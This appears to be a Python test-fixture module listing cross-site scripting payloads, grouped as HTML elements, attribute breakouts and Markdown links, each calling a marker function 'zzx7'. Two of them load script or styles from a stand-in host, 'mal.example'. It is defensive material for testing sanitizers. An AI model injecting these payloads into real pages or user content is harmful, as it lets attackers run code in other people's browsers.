"""Texts that try to run in somebody else's browser. ``MARK`` is in each of them."""

MARK = "zzx7"

ELEMENTS = [
    "<script>zzx7()</script>", "<ScRiPt>zzx7()</sCrIpT>", "<script/x>zzx7()</script>",
    "<script src=//mal.example/zzx7.js></script>", "<script\n>zzx7()</script\n>",
    "</title><script>zzx7()</script>", "</textarea><script>zzx7()</script>",
    "--><script>zzx7()</script>", "]]><script>zzx7()</script>",
    "</style><script>zzx7()</script>", "</script><script>zzx7()</script>",
    "<img src=x onerror=zzx7()>", "<img src=x onerror='zzx7()'>", "<img/src/onerror=zzx7()>",
    "<IMG SRC=x OnErRoR=zzx7()>", "<img src=x onerror=zzx7()//", "<<img src=x onerror=zzx7()>",
    "<svg onload=zzx7()>", "<svg/onload=zzx7()>", "<svg><script>zzx7()</script></svg>",
    "<svg><animate onbegin=zzx7() attributeName=x>", "<svg><a xlink:href=javascript:zzx7()>x",
    "<svg><use href='data:image/svg+xml,zzx7'>", "<math><a href=javascript:zzx7()>x",
    "<math><mtext><style><img src=x onerror=zzx7()></style>", "<body onload=zzx7()>",
    "<details open ontoggle=zzx7()>", "<input autofocus onfocus=zzx7()>",
    "<select autofocus onfocus=zzx7()>", "<textarea autofocus onfocus=zzx7()>",
    "<video src=x onerror=zzx7()>", "<audio src onloadstart=zzx7()>",
    "<video><source onerror=zzx7()>", "<marquee onstart=zzx7()>", "<a onmouseover=zzx7()>x",
    "<div style=\"background:url('javascript:zzx7()')\">x", "<p style=x:expression(zzx7())>",
    "<style>@import'//mal.example/zzx7';</style>", "<link rel=stylesheet href=//zzx7>",
    "<meta http-equiv=refresh content='0;url=javascript:zzx7()'>", "<base href=//zzx7/>",
    "<iframe src=javascript:zzx7()>", "<iframe srcdoc='<script>zzx7()</script>'>",
    "<object data=javascript:zzx7()>", "<embed src=javascript:zzx7()>",
    "<form action=javascript:zzx7()><button>x", "<button formaction=javascript:zzx7()>x",
    "<isindex action=javascript:zzx7() type=image>", "<x id=zzx7 tabindex=1 onfocus=zzx7()>",
    "<a href=javascript:zzx7()>x</a>", "<a href='java\tscript:zzx7()'>x</a>",
    "<a href=JaVaScRiPt:zzx7()>x</a>", "<a href='&#106;avascript:zzx7()'>x</a>",
    "<a href='data:text/html,<script>zzx7()</script>'>x</a>", "<a href=vbscript:zzx7()>x</a>",
]  # fmt: skip
ATTRIBUTES = [
    '" onmouseover="zzx7()', "' onmouseover='zzx7()", '"><script>zzx7()</script>',
    "'><img src=x onerror=zzx7()>", '" autofocus onfocus=zzx7() x="',
    '"/><svg onload=zzx7()>', 'x" style="zzx7:expression(1)',
]  # fmt: skip
# Dangerous where they become a link; harmless as words.
MARKDOWN = [
    "[x](javascript:zzx7())", "[x](JaVaScRiPt:zzx7())", "[x](java&#115;cript:zzx7())",
    "[x](javascript&colon;zzx7())", "[x](data:text/html,<script>zzx7()</script>)",
    "[x](vbscript:zzx7())", "[x]: javascript:zzx7()\n\n[x]", "<javascript:zzx7()>",
    '![x](x"onerror="zzx7())', "![x](javascript:zzx7())", "[x](x 'onclick=zzx7()')",
    "[x](<java\nscript:zzx7()>)", "```html\n<script>zzx7()</script>\n```",
    "`<script>zzx7()</script>`", "[<img src=x onerror=zzx7()>](x)",
    '<a href="x" onclick="zzx7()">x</a>', "[x](\x01javascript:zzx7())",
    "{{ zzx7 }}{% debug %}", "`onmouseover=zzx7()", "${zzx7()}", "&lt;script&gt;zzx7()&lt;/script&gt;",
]  # fmt: skip
ALL = [*ELEMENTS, *ATTRIBUTES, *MARKDOWN]
# The worst of each kind, short enough for a name.
SHORT = "\"><img src=x onerror=zzx7()>'<script>zzx7()</script>"
